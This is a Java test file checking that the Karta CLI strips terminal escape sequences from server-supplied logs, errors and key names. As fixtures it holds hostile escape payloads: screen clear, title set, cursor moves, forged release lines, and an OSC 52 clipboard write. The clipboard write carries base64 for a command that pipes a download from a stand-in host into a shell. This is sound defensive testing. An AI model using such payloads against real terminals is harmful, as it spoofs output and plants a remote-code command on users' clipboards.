package dev.karta.cli;

import static dev.karta.cli.FakeKarta.endEvent;
import static dev.karta.cli.FakeKarta.event;
import static dev.karta.cli.FakeKarta.logEvent;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Whatever the server sends (a build log line, an error, a key name) is shown with its terminal
 * control sequences and control characters removed: it cannot clear the screen, set the window
 * title, write the clipboard, ring the bell, move the
 * cursor back over a line, or print a line of its own that looks like Karta's. Checked against a
 * real server (whose log escapes too) and against a scripted one that sends raw control bytes.
 */
class TerminalEscapesTest {
    /** As JSON string content: clear screen, OSC title ended by BEL, CR, and a fake release line. */
    private static final String HOSTILE_JSON =
            "x\\u001b[2J\\u001b]0;owned\\u0007\\r\\nReleased v999 (fake)\\nremote: Released v999\\u009b31m";
    /** What is left of it on a terminal: the sequences removed whole, the line breaks now spaces. */
    private static final String CLEAN = "x Released v999 (fake) remote: Released v999";

    @RegisterExtension
    static final CliServer cli = new CliServer();

    FakeKarta fake;

    @BeforeEach
    void startFake() throws IOException {
        fake = new FakeKarta();
    }

    @AfterEach
    void stopFake() {
        fake.close();
    }

    private Run real() {
        return cli.as(TestServer.ADMIN_KEY);
    }

    private Run scripted() {
        return new Run(cli.home()).env("KARTA_SERVER", fake.url()).env("KARTA_API_KEY", TestServer.ADMIN_KEY);
    }

    private Path app(String name, String kartaToml) throws IOException {
        Path dir = cli.home().resolve(name);
        Files.createDirectories(dir);
        Files.writeString(dir.resolve("CLAUDE.md"), "# " + name + "\n");
        Files.writeString(dir.resolve("karta.toml"), kartaToml);
        return dir;
    }

    private static void assertNoControlCharacters(Run.Result result) {
        String all = result.stdout() + result.stderr();
        assertThat(all.chars().filter(c -> c < 0x20 && c != '\n' && c != '\t' || c >= 0x7f && c <= 0x9f))
                .as(result.toString()).isEmpty();
        assertThat(all.lines()).noneMatch(line -> line.strip().startsWith("Released v999"))
                .noneMatch(line -> line.strip().startsWith("remote: Released v999"));
    }

    @Test
    void karta_logs_shows_an_apps_build_output_without_its_clipboard_write_or_cursor_moves() throws IOException {
        // OSC 52 would put a command on the reader's clipboard; CSI 2J clears the screen; CSI 1A
        // moves up a line to overwrite one; the colours are an ordinary build tool's.
        String hostile = "pwn\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007ed\\u001b[2J\\u001b[1A"
                + "\\u001b[31mred\\u001b[0m\\u009b2K";
        Path dir = app("clipboard-app", "entry_point = \"CLAUDE.md\"\n\"" + hostile + "\" = 1\n");
        assertThat(real().workingDir(dir).run("publish").exitCode()).isZero();

        Run.Result logs = real().run("logs", "clipboard-app");
        Run.Result json = real().run("logs", "clipboard-app", "--json");

        assertThat(logs.exitCode()).as(logs.toString()).isZero();
        assertNoControlCharacters(logs);
        assertThat(logs.stdout()).contains("unknown key 'pwnedred' ignored").doesNotContain("52;c;", "[2J", "[31m");
        assertNoControlCharacters(json);
        assertThat(json.stdout()).contains("pwnedred").doesNotContain("52;c;");
    }

    @Test
    void publish_shows_a_hostile_karta_toml_cleaned() throws IOException {
        Path dir = app("hostile-shop", "entry_point = \"CLAUDE.md\"\n\"" + HOSTILE_JSON + "\" = 1\n");

        Run.Result publish = real().workingDir(dir).run("publish");

        assertThat(publish.exitCode()).as(publish.toString()).isZero();
        assertNoControlCharacters(publish);
        assertThat(publish.stdout()).contains("'" + CLEAN + "'").contains("Released v1 — ");
    }

    @Test
    void a_build_log_with_raw_control_characters_is_shown_cleaned_one_entry_per_line() throws IOException {
        fake.on("GET", "/agent_projects/shop", (exchange, request) -> FakeKarta.json(exchange, 200,
                "{\"name\":\"shop\",\"url\":\"" + fake.url() + "/v1/projects/shop\"}"));
        fake.on("POST", "/agent_projects/shop/releases", (exchange, request) ->
                FakeKarta.json(exchange, 202, FakeKarta.deployJson("queued", null, null)));
        fake.on("GET", "/agent_projects/shop/deploys/dep_1/logs", (exchange, request) -> {
            OutputStream out = FakeKarta.sse(exchange);
            event(out, logEvent(1, HOSTILE_JSON));
            event(out, endEvent("failed", null, HOSTILE_JSON));
        });

        Run.Result publish = scripted().workingDir(app("shop", "")).run("publish");

        assertThat(publish.exitCode()).isEqualTo(1);
        assertNoControlCharacters(publish);
        assertThat(publish.stdout()).isEqualTo("  " + CLEAN + "\n");
        assertThat(publish.stderr()).endsWith("karta: build failed: " + CLEAN + "\n");
    }

    @Test
    void keys_list_shows_a_key_name_with_control_characters_removed_on_its_row() {
        fake.on("GET", "/api_keys", (exchange, request) -> FakeKarta.json(exchange, 200,
                "{\"api_keys\":[{\"id\":\"key_1\",\"name\":\"" + HOSTILE_JSON + "\",\"scopes\":[\"read\"],"
                        + "\"prefix\":\"kt_live_abcdef\",\"created_at\":\"2026-06-01T10:00:00Z\"}]}"));

        Run.Result list = scripted().run("keys", "list");

        assertThat(list.exitCode()).as(list.toString()).isZero();
        assertNoControlCharacters(list);
        assertThat(list.stdout().lines()).hasSize(2);
        assertThat(list.stdout()).contains("key_1  " + CLEAN);
    }

    @Test
    void keys_list_with_json_escapes_del_and_c1_controls_too() throws IOException {
        fake.on("GET", "/api_keys", (exchange, request) -> FakeKarta.json(exchange, 200,
                "{\"api_keys\":[{\"id\":\"key_1\",\"name\":\"" + HOSTILE_JSON + "\\u007f\",\"scopes\":[\"read\"]}]}"));

        Run.Result list = scripted().run("keys", "list", "--json");

        assertThat(list.exitCode()).as(list.toString()).isZero();
        assertNoControlCharacters(list);
        assertThat(list.stdout()).contains("\\u001b[2J", "\\u009b31m", "\\u007f");
        assertThat(dev.karta.api.Json.newMapper().readTree(list.stdout()).at("/api_keys/0/name").asText())
                .isEqualTo("x\u001b[2J\u001b]0;owned\u0007\r\nReleased v999 (fake)\nremote: Released v999\u009b31m\u007f");
    }

    @Test
    void an_error_message_from_the_server_is_shown_cleaned() {
        fake.on("GET", "/api_keys", (exchange, request) -> FakeKarta.json(exchange, 409,
                "{\"error\":\"conflict\",\"message\":\"" + HOSTILE_JSON + "\"}"));

        Run.Result list = scripted().run("keys", "list");

        assertThat(list.exitCode()).isEqualTo(1);
        assertNoControlCharacters(list);
        assertThat(list.stderr()).isEqualTo("karta: " + CLEAN + "\n");
    }
}
